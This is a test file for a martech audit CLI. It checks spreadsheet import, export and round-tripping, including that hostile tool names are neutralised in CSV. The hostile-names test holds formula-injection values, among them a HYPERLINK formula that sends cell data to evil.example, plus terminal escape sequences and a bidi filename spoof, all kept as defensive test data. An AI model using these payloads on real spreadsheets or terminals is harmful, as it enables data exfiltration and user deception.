// import and export end to end (the built CLI): the messy fixtures give the reviewed workspaces
// in test/golden/sheets/, every skipped row is reported, what is written validates, and every
// bundled example goes out to Excel (and CSV) and comes back auditing the same.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { existsSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse as parseYaml } from 'yaml';
import { cli, ROOT } from '../git/cli.js';
import { expectGoldenDir } from '../golden.js';

let dir: string;
beforeAll(() => { dir = realpathSync(mkdtempSync(join(tmpdir(), 'martech-sheets-'))); });
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const FIX = join(ROOT, 'test', 'fixtures', 'sheets');

function analyzeJson(path: string) {
  const r = cli(['analyze', path, '--format', 'json', '--start', '2027-01', '--fail-on', 'none', '--lang', 'en'], dir);
  expect(r.code, r.stderr).toBe(0);
  const j = JSON.parse(r.stdout);
  // Locations name the files, which differ by construction; everything else must be equal.
  return { findings: j.findings.map(({ location, ...f }: any) => f), assessment: j.assessment, roadmap: j.roadmap, summary: j.summary };
}

describe('import of messy spreadsheets', () => {
  for (const [fixture, lang] of [['zylo-export.csv', 'en'], ['tools-sjis.csv', 'ja'], ['multi-sheet.xlsx', 'en']] as const) {
    it(`${fixture} gives the reviewed workspace and reports every row it skipped`, () => {
      const name = fixture.replace(/\.[^.]+$/, '');
      const out = join(dir, name);
      const r = cli(['import', join(FIX, fixture), '--out', out, '--format', 'json'], dir);
      expect(r.code, r.stderr).toBe(0);
      const summary = JSON.parse(r.stdout);
      // The files written and the issues reported, against the reviewed test/golden/sheets/<name>/.
      const written = Object.fromEntries(readdirSync(out).map((f) => [f, readFileSync(join(out, f), 'utf8')]));
      expectGoldenDir(`sheets/${name}`, { ...written, 'issues.json': `${JSON.stringify(summary.issues, null, 2)}\n` });
      const v = cli(['validate', out], dir);
      expect(v.code, v.stdout + v.stderr).toBe(0);
      expect(readFileSync(join(out, 'martech-audit.yaml'), 'utf8')).toContain(lang === 'ja' ? 'lang: ja' : 'version: 1');
    });
  }

  it('--dry-run writes nothing; an existing workspace is never overwritten without --force', () => {
    const out = join(dir, 'dry');
    const r = cli(['import', join(FIX, 'zylo-export.csv'), '--out', out, '--dry-run'], dir);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('Dry run');
    expect(r.stdout).toContain('tools:');
    expect(existsSync(out)).toBe(false);
    const first = cli(['import', join(FIX, 'zylo-export.csv'), '--out', out], dir);
    expect(first.code).toBe(0);
    const again = cli(['import', join(FIX, 'zylo-export.csv'), '--out', out], dir);
    expect(again.code).toBe(2);
    expect(again.stderr).toContain('already exists');
    expect(again.stderr).not.toMatch(/\n\s+at /);
  });

  it('--map says what a column holds; a bad field or column is a usage error', () => {
    const out = join(dir, 'mapped');
    const r = cli(['import', join(FIX, 'zylo-export.csv'), '--out', out, '--map', 'Payment Method=notes', '--format', 'json'], dir);
    expect(r.code, r.stderr).toBe(0);
    expect(readFileSync(join(out, 'tools.yaml'), 'utf8')).toContain('notes: Invoice');
    expect(cli(['import', join(FIX, 'zylo-export.csv'), '--out', join(dir, 'x'), '--map', 'Payment Method=price'], dir).stderr).toContain('is not a field');
    expect(cli(['import', join(FIX, 'zylo-export.csv'), '--out', join(dir, 'x'), '--map', 'Nope=cost'], dir).stderr).toContain('no column');
  });

  it('--into adds new tools without duplicating, keeps what is there and says what the sheet adds', () => {
    const ws = join(dir, 'into.yaml');
    writeFileSync(ws, readFileSync(join(ROOT, 'examples', 'startup-no-hub.yaml'), 'utf8'));
    const csv = join(dir, 'more.csv');
    writeFileSync(csv, 'Tool,Annual cost,Department,Renewal\nMailchimp,"$2,400",growth,2027-05\nHubSpot CRM,0,growth,\nTypeform,,,\n');
    const r = cli(['import', csv, '--into', ws, '--format', 'json'], dir);
    expect(r.code, r.stderr).toBe(0);
    const j = JSON.parse(r.stdout);
    expect(j.kept).toBe(2);
    expect(j.tools).toBe(1);
    expect(j.issues.map((i: any) => i.message).join('\n')).toContain('"Mailchimp" is already in the workspace as "mailchimp": kept as it is; the spreadsheet also has renewal date 2027-05');
    const text = readFileSync(ws, 'utf8');
    expect(text.match(/id: mailchimp/g)).toHaveLength(1);
    expect(text).toContain('id: hubspot-crm');
    expect(cli(['validate', ws], dir).code).toBe(0);
  });

  it('a sheet without a column of names is an error with a hint, not an empty workspace', () => {
    const csv = join(dir, 'nonames.csv');
    writeFileSync(csv, 'Foo,Bar\n1,2\n');
    const r = cli(['import', csv, '--out', join(dir, 'nonames')], dir);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('--map');
    expect(existsSync(join(dir, 'nonames'))).toBe(false);
  });
});

describe('export, then import: the same audit', () => {
  for (const ex of ['northwind-b2b', 'sakura-retail.yaml', 'startup-no-hub.yaml']) {
    for (const format of ['xlsx', 'csv'] as const) {
      it(`${ex} through ${format}`, () => {
        const src = join(ROOT, 'examples', ex);
        const file = join(dir, `${ex}.${format === 'xlsx' ? 'xlsx' : 'csv.d'}`);
        const e = cli(['export', src, '--format', format, '--out', file], dir);
        expect(e.code, e.stderr).toBe(0);
        const back = join(dir, `${ex}-${format}-back`);
        const i = cli(['import', file, '--out', back], dir);
        expect(i.code, i.stderr).toBe(0);
        const v = cli(['validate', back, '--strict'], dir);
        expect(v.code, v.stdout + v.stderr).toBe(0);
        expect(analyzeJson(back)).toEqual(analyzeJson(src));
      });
    }
  }

  // Revision-2 fields (personas, data_types, needs, frequency, ...) travel too.
  for (const fixture of ['kestrel-financial/workspace', 'maison-velin-retail/workspace.yaml']) {
    it(`realistic fixture ${fixture} (revision 2) through xlsx`, () => {
      const src = join(ROOT, 'test', 'fixtures', 'realistic', fixture);
      const file = join(dir, `${fixture.split('/')[0]}.xlsx`);
      expect(cli(['export', src, '--out', file], dir).code).toBe(0);
      const back = join(dir, `${fixture.split('/')[0]}-back`);
      const i = cli(['import', file, '--out', back], dir);
      expect(i.code, i.stderr).toBe(0);
      expect(analyzeJson(back)).toEqual(analyzeJson(src));
    });
  }

  it('a workbook in Japanese (headers, statuses, yes/no) comes back the same', () => {
    const src = join(ROOT, 'examples', 'northwind-b2b');
    const file = join(dir, 'northwind-ja.xlsx');
    expect(cli(['export', src, '--out', file, '--lang', 'ja'], dir).code).toBe(0);
    const back = join(dir, 'northwind-ja-back');
    const i = cli(['import', file, '--out', back, '--lang', 'en'], dir);
    expect(i.code, i.stderr).toBe(0);
    expect(analyzeJson(back)).toEqual(analyzeJson(src));
  });

  it('the workbook has the six sheets plus Workspace, as Excel tables with typed cells', async () => {
    const file = join(dir, 'typed.xlsx');
    expect(cli(['export', join(ROOT, 'examples', 'northwind-b2b'), '--out', file], dir).code).toBe(0);
    const ExcelJS = (await import('exceljs')).default;
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Inventory', 'Touchpoints', 'Integrations', 'Findings', 'Roadmap', 'Open questions', 'Workspace']);
    const inv = wb.getWorksheet('Inventory')!;
    expect((inv as any).tables?.Tools ?? inv.getTable('Tools')).toBeTruthy();
    expect(inv.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    const header = (inv.getRow(1).values as unknown[]).slice(1);
    const costCol = header.indexOf('Annual cost') + 1;
    const renewalCol = header.indexOf('Renewal') + 1;
    const costs = [] as unknown[];
    inv.eachRow((row, n) => { if (n > 1) costs.push(row.getCell(costCol).value); });
    expect(costs.some((c) => typeof c === 'number')).toBe(true);
    expect(inv.getColumn(costCol).numFmt).toContain('€');
    let dates = 0;
    inv.eachRow((row, n) => { if (n > 1 && row.getCell(renewalCol).value instanceof Date) dates++; });
    expect(dates).toBeGreaterThan(0);
  });

  it('--format csv with an --out ending in .csv writes the inventory alone, which reads back as the same tools', () => {
    const file = join(dir, 'inventory-only.csv');
    const e = cli(['export', join(ROOT, 'examples', 'sakura-retail.yaml'), '--format', 'csv', '--out', file], dir);
    expect(e.code, e.stderr).toBe(0);
    expect(readFileSync(file, 'utf8').startsWith('\ufeffID,ツール名,')).toBe(true);
    const back = join(dir, 'inventory-only-back');
    const i = cli(['import', file, '--out', back, '--format', 'json'], dir);
    expect(i.code, i.stderr).toBe(0);
    expect(JSON.parse(i.stdout)).toMatchObject({ tools: 9, issues: [] });
    expect(cli(['validate', back], dir).code).toBe(0);
  });

  // A tool named `=1+2` is written `'=1+2` in CSV (so that no spreadsheet runs it) and read back
  // without the quote; in XLSX it is text already. Names, vendors and the organisation come back
  // exactly; a control character comes back as its visible \uXXXX escape, as export writes it.
  for (const format of ['xlsx', 'csv'] as const) {
    it(`hostile names (=1+2, -x, @home, '=...) come back unchanged through ${format}`, () => {
      const src = join(FIX, 'hostile.yaml');
      const file = join(dir, `hostile.${format === 'xlsx' ? 'xlsx' : 'csv.d'}`);
      const e = cli(['export', src, '--format', format, '--out', file], dir);
      expect(e.code, e.stderr).toBe(0);
      const back = join(dir, `hostile-${format}-back`);
      const i = cli(['import', file, '--out', back], dir);
      expect(i.code, i.stderr).toBe(0);
      expect(cli(['validate', back], dir).code).toBe(0);
      expect(analyzeJson(back)).toEqual(analyzeJson(src));
      const tools = parseYaml(readFileSync(join(back, 'tools.yaml'), 'utf8')).tools as Record<string, unknown>[];
      expect(tools.map((x) => [x.id, x.name, x.vendor])).toEqual([
        ['formula', '=1+2', '+cmd'], ['minus', '-x', undefined], ['at-home', '@home', "'=already quoted"], ['plus', '+1 555 0100', undefined],
      ]);
      expect(tools[0].notes).toBe('-2+3 is a note that starts with a minus');
      expect(tools[3].notes).toBe('title \\u001b]0;pwned\\u0007, clear \\u001b[2J, nul \\u0000, bidi \\u202egnp.exe');
      const manifest = parseYaml(readFileSync(join(back, 'martech-audit.yaml'), 'utf8'));
      expect(manifest.organization.name).toBe('=HYPERLINK("http://evil.example/?"&A1,"Click")');
    });
  }

  // (r2) The roadmap sheet carries each initiative's keep and drop (rules.md, roadmap keep/drop);
  // it stays the analysis' output: import skips it by its name or, renamed, by its header, so the
  // audit comes back the same and no initiative's tools are read as tools.
  it('the roadmap sheet has the keep and drop of every initiative, as analyze --format json has them', async () => {
    const src = join(ROOT, 'examples', 'northwind-b2b');
    const file = join(dir, 'keep-drop.xlsx');
    expect(cli(['export', src, '--out', file, '--start', '2027-01'], dir).code).toBe(0);
    const ExcelJS = (await import('exceljs')).default;
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const sheet = wb.getWorksheet('Roadmap')!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header.slice(0, 8)).toEqual(['Phase', 'Initiative', 'Title', 'Kind', 'Tools', 'Tools kept', 'Tools dropped', 'Owner']);
    const rows: [string, string, string][] = [];
    sheet.eachRow((row, n) => {
      if (n > 1) rows.push([String(row.getCell(2).value), String(row.getCell(6).value ?? ''), String(row.getCell(7).value ?? '')]);
    });
    const roadmap = analyzeJson(src).roadmap as { initiatives: { id: string; keep: string[]; drop: string[] }[] };
    expect(rows).toEqual(roadmap.initiatives.map((i) => [i.id, i.keep.join(', '), i.drop.join(', ')]));
    // Something is kept and something dropped somewhere, or the columns would prove nothing.
    expect(rows.some((r) => r[1]) && rows.some((r) => r[2])).toBe(true);
  });

  it('a Japanese workbook whose roadmap sheet was renamed still comes back as the same audit', async () => {
    const src = join(ROOT, 'examples', 'sakura-retail.yaml');
    const file = join(dir, 'renamed-ja.xlsx');
    expect(cli(['export', src, '--out', file, '--lang', 'ja'], dir).code).toBe(0);
    const ExcelJS = (await import('exceljs')).default;
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    wb.getWorksheet('ロードマップ')!.name = '来期の計画';
    wb.getWorksheet('指摘事項')!.name = 'メモ';
    await wb.xlsx.writeFile(file);
    const back = join(dir, 'renamed-ja-back');
    const i = cli(['import', file, '--out', back, '--format', 'json'], dir);
    expect(i.code, i.stderr).toBe(0);
    const skipped = (JSON.parse(i.stdout).issues as { message: string }[]).map((x) => x.message).filter((m) => m.includes('来期の計画') || m.includes('メモ'));
    expect(skipped).toHaveLength(2);
    expect(skipped.every((m) => /output|分析結果/.test(m))).toBe(true);
    expect(analyzeJson(back)).toEqual(analyzeJson(src));
  });

  it('the roadmap CSV saved under another name is not read as a list of tools', () => {
    const folder = join(dir, 'roadmap-only.d');
    expect(cli(['export', join(ROOT, 'examples', 'northwind-b2b'), '--format', 'csv', '--out', folder, '--lang', 'ja'], dir).code).toBe(0);
    const plan = join(dir, 'plan.csv');
    writeFileSync(plan, readFileSync(join(folder, 'roadmap.csv')));
    const r = cli(['import', plan, '--out', join(dir, 'plan-ws')], dir);
    expect(r.code).toBe(2);
    expect(r.stderr).not.toMatch(/\n\s+at /);
    expect(existsSync(join(dir, 'plan-ws'))).toBe(false);
  });

  it('a workbook is not overwritten without --force', () => {
    const file = join(dir, 'once.xlsx');
    expect(cli(['export', join(ROOT, 'examples', 'startup-no-hub.yaml'), '--out', file], dir).code).toBe(0);
    const again = cli(['export', join(ROOT, 'examples', 'startup-no-hub.yaml'), '--out', file], dir);
    expect(again.code).toBe(2);
    expect(cli(['export', join(ROOT, 'examples', 'startup-no-hub.yaml'), '--out', file, '--force'], dir).code).toBe(0);
  });
});
